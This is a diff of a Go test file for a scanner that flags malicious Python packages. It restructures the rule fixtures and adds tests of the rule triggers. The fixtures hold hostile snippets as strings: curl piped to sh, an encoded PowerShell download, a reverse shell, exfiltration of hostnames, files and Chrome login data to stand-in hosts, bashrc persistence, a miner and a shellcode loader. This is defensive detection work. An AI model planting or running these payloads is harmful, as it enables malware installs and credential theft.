@@ -8,6 +8,7 @@ import (
 	"encoding/base64"
 	"encoding/hex"
 	"math/rand/v2"
+	"slices"
 	"sort"
 	"strings"
 	"testing"
@@ -56,75 +57,81 @@ func hasRule(r *Result, rule string, min Severity) bool {
 
 func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
 
-// Each rule has a true positive and the nearest legitimate look-alike.
+// ruleCase is a fixture of TestRules: files packed into an sdist, the
+// rule expected to fire on them ("" for none) and the verdict.
+type ruleCase struct {
+	name    string
+	files   map[string]string
+	rule    string
+	verdict Verdict
+}
+
+// ruleCases give each rule a true positive and the nearest legitimate
+// look-alike.
+var ruleCases = []ruleCase{
+	// exec-obfuscated
+	{"exec of base64 in setup.py", map[string]string{"setup.py": "import base64\nexec(base64.b64decode('" + b64("import os\nos.system('id')") + "'))\n"}, "exec-obfuscated", Malicious},
+	{"exec of a version file is fine", map[string]string{"setup.py": "exec(open('p/version.py').read())\nfrom setuptools import setup\nsetup()\n"}, "", Clean},
+	{"echo blob | base64 -d | bash", map[string]string{"setup.py": "import os\nblob = get()\nos.system('echo %s|base64 -d|bash' % blob)\n"}, "exec-obfuscated", Malicious},
+	// exec-remote-code
+	{"exec of a download on import", map[string]string{"p/__init__.py": "import requests\nexec(requests.get('https://example.invalid/x').text)\n"}, "exec-remote-code", Malicious},
+	{"json of a download is fine", map[string]string{"p/__init__.py": "import requests\ndef latest():\n    return requests.get('https://example.invalid/x').json()\n"}, "", Clean},
+	// download-execute
+	{"curl piped to sh at install", map[string]string{"setup.py": "import os\nos.system('curl -s https://example.invalid/i.sh | sh')\n"}, "download-execute", Malicious},
+	{"encoded powershell download", map[string]string{"setup.py": "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand " + utf16b64("Invoke-WebRequest -Uri https://example.invalid/a.exe -OutFile a.exe; Start-Process a.exe") + "')\n"}, "download-execute", Malicious},
+	{"pkg-config at install is fine", map[string]string{"setup.py": "import subprocess\nflags = subprocess.check_output(['pkg-config', '--cflags', 'libxml-2.0'])\n"}, "", Clean},
+	// reverse-shell
+	{"socket dup2 pty", map[string]string{"setup.py": "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n"}, "reverse-shell", Malicious},
+	{"socket client is fine", map[string]string{"p/client.py": "import socket\ndef ping(h):\n    s = socket.socket()\n    s.connect((h, 80))\n    return s.recv(10)\n"}, "", Clean},
+	// exfiltrates-host-info
+	{"hostname sent at install", map[string]string{"setup.py": "import socket, getpass, requests\nrequests.get('https://example.invalid/c', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n"}, "exfiltrates-host-info", Malicious},
+	{"local address lookup is fine", map[string]string{"p/__init__.py": "import socket\nIP = socket.gethostbyname(socket.gethostname())\n"}, "", Clean},
+	// exfiltrates-files
+	{"session file uploaded on import", map[string]string{"p/__init__.py": "import requests\nwith open('/data/session.db', 'rb') as fh:\n    requests.post('https://example.invalid/c', files={'f': fh})\n"}, "exfiltrates-files", Malicious},
+	{"upload method of an SDK is runtime", map[string]string{"p/api.py": "import requests\ndef upload(path):\n    return requests.post('https://example.invalid/u', data=open(path, 'rb').read())\n"}, "exfiltrates-files", Clean},
+	// exfil-channel
+	{"request catcher with network", map[string]string{"setup.py": "import urllib.request\nurllib.request.urlopen('https://abc123.oastify.com/x')\n"}, "exfil-channel", Malicious},
+	{"webhook named in a docstring is fine", map[string]string{"p/notify.py": "import requests\ndef notify(url, msg):\n    '''url like https://hooks.slack.com/services/...'''\n    return requests.post(url, json={'text': msg})\n"}, "", Clean},
+	{"webhook posted to from a runtime helper", map[string]string{"p/notify.py": "import requests\nURL = 'https://discord.com/api/webhooks/1/abc'\ndef notify(msg):\n    return requests.post(URL, json={'content': msg})\n"}, "exfil-channel", Suspicious},
+	// credential-access
+	{"browser store plus network", map[string]string{"p/__init__.py": "import os, requests\np = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nrequests.post('https://example.invalid', files={'f': open(p, 'rb')})\n"}, "credential-access", Malicious},
+	{"netrc in a runtime HTTP library is fine", map[string]string{"p/auth.py": "import os\ndef netrc_path():\n    return os.path.expanduser('~/.netrc')\n"}, "", Clean},
+	// persistence
+	{"bashrc appended at install", map[string]string{"setup.py": "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl x | sh')\n"}, "persistence", Malicious},
+	{"bashrc mentioned in docs is fine", map[string]string{"p/shell.py": "HELP = 'add this line to your .bashrc'\n"}, "", Clean},
+	// crypto-miner
+	{"xmrig at import", map[string]string{"p/__init__.py": "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool.example.invalid:3333'])\n"}, "crypto-miner", Malicious},
+	// defence-evasion
+	{"defender exclusion", map[string]string{"setup.py": "import os\nos.system('powershell Add-MpPreference -ExclusionPath C:\\\\')\n"}, "defence-evasion", Suspicious},
+	// spyware
+	{"keylogger at import", map[string]string{"p/__init__.py": "from pynput.keyboard import Listener\nListener(on_press=print).start()\n"}, "spyware", Suspicious},
+	{"keylogger only in a function is runtime", map[string]string{"p/keys.py": "from pynput.keyboard import Listener\ndef watch(cb):\n    Listener(on_press=cb).start()\n"}, "", Clean},
+	// suspicious-command
+	{"program run at install", map[string]string{"setup.py": "import os\nos.system('start payload.exe')\n"}, "suspicious-command", Suspicious},
+	{"compiler at install is fine", map[string]string{"setup.py": "import os\nos.system('gcc -O2 -c ext.c')\n"}, "", Clean},
+	// pip-install-at-runtime
+	{"obfuscated pip install", map[string]string{"setup.py": "from pip import main\nmain(['install', ''.join(map(getattr(__builtins__, 'c'+'hr'), [114, 113]))[::-1]])\n"}, "pip-install-at-runtime", Malicious},
+	{"pip install of a named package is medium", map[string]string{"setup.py": "import os\nos.system('pip install numpy')\n"}, "pip-install-at-runtime", Clean},
+	// network-at-install
+	{"download at install", map[string]string{"setup.py": "import urllib.request\nurllib.request.urlretrieve('https://example.invalid/lib.tar.gz', 'lib.tar.gz')\n"}, "network-at-install", Clean},
+	// raw-ip-url
+	{"bare IP contacted at install", map[string]string{"setup.py": "import requests\nrequests.get('http://203.0.113.7:8080/x')\n"}, "raw-ip-url", Malicious},
+	{"private IP in a test is fine", map[string]string{"tests/test_x.py": "URL = 'http://192.168.1.1/'\n"}, "", Clean},
+	// obfuscated-code
+	{"code off-screen at install", map[string]string{"setup.py": "from setuptools import setup" + spaces(300) + ";__import__('os').system('id')\nsetup()\n"}, "obfuscated-code", Malicious},
+	// invisible-unicode
+	{"bidi override", map[string]string{"p/__init__.py": "access = 'user' # \u202e } if admin: \u2066\n"}, "invisible-unicode", Suspicious},
+	// shellcode-loader
+	{"VirtualAlloc and CreateThread", map[string]string{"p/__init__.py": "import ctypes\nk = ctypes.windll.kernel32\nptr = ctypes.windll.kernel32.VirtualAlloc(0, 4096, 0x3000, 0x40)\nctypes.windll.kernel32.CreateThread(0, 0, ptr, 0, 0, 0)\n"}, "shellcode-loader", Malicious},
+	// contexts
+	{"main guard is runtime", map[string]string{"p/__init__.py": "import socket, requests\nif __name__ == '__main__':\n    requests.post('https://example.invalid', data=socket.gethostname())\n"}, "exfiltrates-host-info", Suspicious},
+	{"tests are lowest weight", map[string]string{"tests/test_net.py": "import socket, requests\nrequests.post('https://example.invalid', data=socket.gethostname())\n"}, "", Clean},
+	{"decoded exec counts even in tests", map[string]string{"tests/test_x.py": "import base64\nexec(base64.b64decode('" + b64("import os") + "'))\n"}, "exec-obfuscated", Malicious},
+	{"local import from setup.py is install", map[string]string{"setup.py": "import helper\n", "helper.py": "import os\nos.system('curl https://example.invalid/x | bash')\n"}, "download-execute", Malicious},
+}
+
 func TestRules(t *testing.T) {
-	tests := []struct {
-		name    string
-		files   map[string]string
-		rule    string
-		verdict Verdict
-	}{
-		// exec-obfuscated
-		{"exec of base64 in setup.py", map[string]string{"setup.py": "import base64\nexec(base64.b64decode('" + b64("import os\nos.system('id')") + "'))\n"}, "exec-obfuscated", Malicious},
-		{"exec of a version file is fine", map[string]string{"setup.py": "exec(open('p/version.py').read())\nfrom setuptools import setup\nsetup()\n"}, "", Clean},
-		{"echo blob | base64 -d | bash", map[string]string{"setup.py": "import os\nblob = get()\nos.system('echo %s|base64 -d|bash' % blob)\n"}, "exec-obfuscated", Malicious},
-		// exec-remote-code
-		{"exec of a download on import", map[string]string{"p/__init__.py": "import requests\nexec(requests.get('https://example.invalid/x').text)\n"}, "exec-remote-code", Malicious},
-		{"json of a download is fine", map[string]string{"p/__init__.py": "import requests\ndef latest():\n    return requests.get('https://example.invalid/x').json()\n"}, "", Clean},
-		// download-execute
-		{"curl piped to sh at install", map[string]string{"setup.py": "import os\nos.system('curl -s https://example.invalid/i.sh | sh')\n"}, "download-execute", Malicious},
-		{"encoded powershell download", map[string]string{"setup.py": "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand " + utf16b64("Invoke-WebRequest -Uri https://example.invalid/a.exe -OutFile a.exe; Start-Process a.exe") + "')\n"}, "download-execute", Malicious},
-		{"pkg-config at install is fine", map[string]string{"setup.py": "import subprocess\nflags = subprocess.check_output(['pkg-config', '--cflags', 'libxml-2.0'])\n"}, "", Clean},
-		// reverse-shell
-		{"socket dup2 pty", map[string]string{"setup.py": "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n"}, "reverse-shell", Malicious},
-		{"socket client is fine", map[string]string{"p/client.py": "import socket\ndef ping(h):\n    s = socket.socket()\n    s.connect((h, 80))\n    return s.recv(10)\n"}, "", Clean},
-		// exfiltrates-host-info
-		{"hostname sent at install", map[string]string{"setup.py": "import socket, getpass, requests\nrequests.get('https://example.invalid/c', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n"}, "exfiltrates-host-info", Malicious},
-		{"local address lookup is fine", map[string]string{"p/__init__.py": "import socket\nIP = socket.gethostbyname(socket.gethostname())\n"}, "", Clean},
-		// exfiltrates-files
-		{"session file uploaded on import", map[string]string{"p/__init__.py": "import requests\nwith open('/data/session.db', 'rb') as fh:\n    requests.post('https://example.invalid/c', files={'f': fh})\n"}, "exfiltrates-files", Malicious},
-		{"upload method of an SDK is runtime", map[string]string{"p/api.py": "import requests\ndef upload(path):\n    return requests.post('https://example.invalid/u', data=open(path, 'rb').read())\n"}, "exfiltrates-files", Clean},
-		// exfil-channel
-		{"request catcher with network", map[string]string{"setup.py": "import urllib.request\nurllib.request.urlopen('https://abc123.oastify.com/x')\n"}, "exfil-channel", Malicious},
-		{"webhook named in a docstring is fine", map[string]string{"p/notify.py": "import requests\ndef notify(url, msg):\n    '''url like https://hooks.slack.com/services/...'''\n    return requests.post(url, json={'text': msg})\n"}, "", Clean},
-		{"webhook posted to from a runtime helper", map[string]string{"p/notify.py": "import requests\nURL = 'https://discord.com/api/webhooks/1/abc'\ndef notify(msg):\n    return requests.post(URL, json={'content': msg})\n"}, "exfil-channel", Suspicious},
-		// credential-access
-		{"browser store plus network", map[string]string{"p/__init__.py": "import os, requests\np = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nrequests.post('https://example.invalid', files={'f': open(p, 'rb')})\n"}, "credential-access", Malicious},
-		{"netrc in a runtime HTTP library is fine", map[string]string{"p/auth.py": "import os\ndef netrc_path():\n    return os.path.expanduser('~/.netrc')\n"}, "", Clean},
-		// persistence
-		{"bashrc appended at install", map[string]string{"setup.py": "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl x | sh')\n"}, "persistence", Malicious},
-		{"bashrc mentioned in docs is fine", map[string]string{"p/shell.py": "HELP = 'add this line to your .bashrc'\n"}, "", Clean},
-		// crypto-miner
-		{"xmrig at import", map[string]string{"p/__init__.py": "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool.example.invalid:3333'])\n"}, "crypto-miner", Malicious},
-		// defence-evasion
-		{"defender exclusion", map[string]string{"setup.py": "import os\nos.system('powershell Add-MpPreference -ExclusionPath C:\\\\')\n"}, "defence-evasion", Suspicious},
-		// spyware
-		{"keylogger at import", map[string]string{"p/__init__.py": "from pynput.keyboard import Listener\nListener(on_press=print).start()\n"}, "spyware", Suspicious},
-		{"keylogger only in a function is runtime", map[string]string{"p/keys.py": "from pynput.keyboard import Listener\ndef watch(cb):\n    Listener(on_press=cb).start()\n"}, "", Clean},
-		// suspicious-command
-		{"program run at install", map[string]string{"setup.py": "import os\nos.system('start payload.exe')\n"}, "suspicious-command", Suspicious},
-		{"compiler at install is fine", map[string]string{"setup.py": "import os\nos.system('gcc -O2 -c ext.c')\n"}, "", Clean},
-		// pip-install-at-runtime
-		{"obfuscated pip install", map[string]string{"setup.py": "from pip import main\nmain(['install', ''.join(map(getattr(__builtins__, 'c'+'hr'), [114, 113]))[::-1]])\n"}, "pip-install-at-runtime", Malicious},
-		{"pip install of a named package is medium", map[string]string{"setup.py": "import os\nos.system('pip install numpy')\n"}, "pip-install-at-runtime", Clean},
-		// network-at-install
-		{"download at install", map[string]string{"setup.py": "import urllib.request\nurllib.request.urlretrieve('https://example.invalid/lib.tar.gz', 'lib.tar.gz')\n"}, "network-at-install", Clean},
-		// raw-ip-url
-		{"bare IP contacted at install", map[string]string{"setup.py": "import requests\nrequests.get('http://203.0.113.7:8080/x')\n"}, "raw-ip-url", Malicious},
-		{"private IP in a test is fine", map[string]string{"tests/test_x.py": "URL = 'http://192.168.1.1/'\n"}, "", Clean},
-		// obfuscated-code
-		{"code off-screen at install", map[string]string{"setup.py": "from setuptools import setup" + spaces(300) + ";__import__('os').system('id')\nsetup()\n"}, "obfuscated-code", Malicious},
-		// invisible-unicode
-		{"bidi override", map[string]string{"p/__init__.py": "access = 'user' # \u202e } if admin: \u2066\n"}, "invisible-unicode", Suspicious},
-		// shellcode-loader
-		{"VirtualAlloc and CreateThread", map[string]string{"p/__init__.py": "import ctypes\nk = ctypes.windll.kernel32\nptr = ctypes.windll.kernel32.VirtualAlloc(0, 4096, 0x3000, 0x40)\nctypes.windll.kernel32.CreateThread(0, 0, ptr, 0, 0, 0)\n"}, "shellcode-loader", Malicious},
-		// contexts
-		{"main guard is runtime", map[string]string{"p/__init__.py": "import socket, requests\nif __name__ == '__main__':\n    requests.post('https://example.invalid', data=socket.gethostname())\n"}, "exfiltrates-host-info", Suspicious},
-		{"tests are lowest weight", map[string]string{"tests/test_net.py": "import socket, requests\nrequests.post('https://example.invalid', data=socket.gethostname())\n"}, "", Clean},
-		{"decoded exec counts even in tests", map[string]string{"tests/test_x.py": "import base64\nexec(base64.b64decode('" + b64("import os") + "'))\n"}, "exec-obfuscated", Malicious},
-		{"local import from setup.py is install", map[string]string{"setup.py": "import helper\n", "helper.py": "import os\nos.system('curl https://example.invalid/x | bash')\n"}, "download-execute", Malicious},
-	}
-	for _, tt := range tests {
+	for _, tt := range ruleCases {
 		t.Run(tt.name, func(t *testing.T) {
 			r := sdist(t, tt.files)
 			if r.Verdict != tt.verdict {
@@ -147,17 +154,39 @@ func utf16b64(s string) string {
 	return base64.StdEncoding.EncodeToString(b)
 }
 
-// Every rule in the registry is exercised by TestRules.
-func TestEveryRuleTested(t *testing.T) {
-	covered := map[string]bool{}
-	for _, id := range []string{"exec-obfuscated", "exec-remote-code", "download-execute", "reverse-shell", "exfiltrates-host-info",
-		"exfil-channel", "exfiltrates-files", "credential-access", "persistence", "crypto-miner", "defence-evasion", "spyware", "suspicious-command",
-		"pip-install-at-runtime", "network-at-install", "raw-ip-url", "obfuscated-code", "invisible-unicode", "shellcode-loader"} {
-		covered[id] = true
-	}
-	for _, r := range Rules {
-		if !covered[r.Info().ID] {
-			t.Errorf("rule %s has no case in TestRules", r.Info().ID)
+// Every rule declares triggers, has a case in TestRules, and each file it
+// fires on there holds one of its triggers (an any-context one outside
+// install, startup, import and runtime code): a rule whose words are not
+// triggers would not run on most of the code it is meant for.
+func TestRuleTriggers(t *testing.T) {
+	for _, rule := range Rules {
+		info := rule.Info()
+		if len(info.Triggers)+len(info.AnyContextTriggers) == 0 {
+			t.Errorf("rule %s declares no triggers", info.ID)
+			continue
+		}
+		cases := 0
+		for _, tt := range ruleCases {
+			if tt.rule != info.ID {
+				continue
+			}
+			cases++
+			for _, f := range sdist(t, tt.files).Findings {
+				if f.Rule != info.ID {
+					continue
+				}
+				words, which := slices.Concat(info.Triggers, info.AnyContextTriggers), "triggers"
+				if f.Context == Test {
+					words, which = info.AnyContextTriggers, "any-context triggers"
+				}
+				src := tt.files[strings.TrimPrefix(f.File, "p-1/")]
+				if !slices.ContainsFunc(words, func(w string) bool { return strings.Contains(src, w) }) {
+					t.Errorf("%s: %s fires on %s, which holds none of its %s %q", tt.name, info.ID, f.File, which, words)
+				}
+			}
+		}
+		if cases == 0 {
+			t.Errorf("rule %s has no case in TestRules", info.ID)
 		}
 	}
 }
@@ -349,4 +378,25 @@ func TestCountEscapes(t *testing.T) {
 			t.Fatalf("countEscapes(%q) = %d, want %d", src, got, want)
 		}
 	}
+}
+
+// Every artifact rule is run: it implements one of the interfaces the
+// engine calls, or is known-malicious, which KnownMalicious checks.
+func TestArtifactRulesRun(t *testing.T) {
+	for _, r := range artifactRules {
+		n := 0
+		for _, ok := range []bool{isA[ArtifactRule](r), isA[AnomalyRule](r), isA[FindingsRule](r), r.Info().ID == "known-malicious"} {
+			if ok {
+				n++
+			}
+		}
+		if n != 1 {
+			t.Errorf("artifact rule %s implements %d of ArtifactRule, AnomalyRule, FindingsRule (or is known-malicious), want 1", r.Info().ID, n)
+		}
+	}
+}
+
+func isA[T any](r describedRule) bool {
+	_, ok := r.(T)
+	return ok
 }
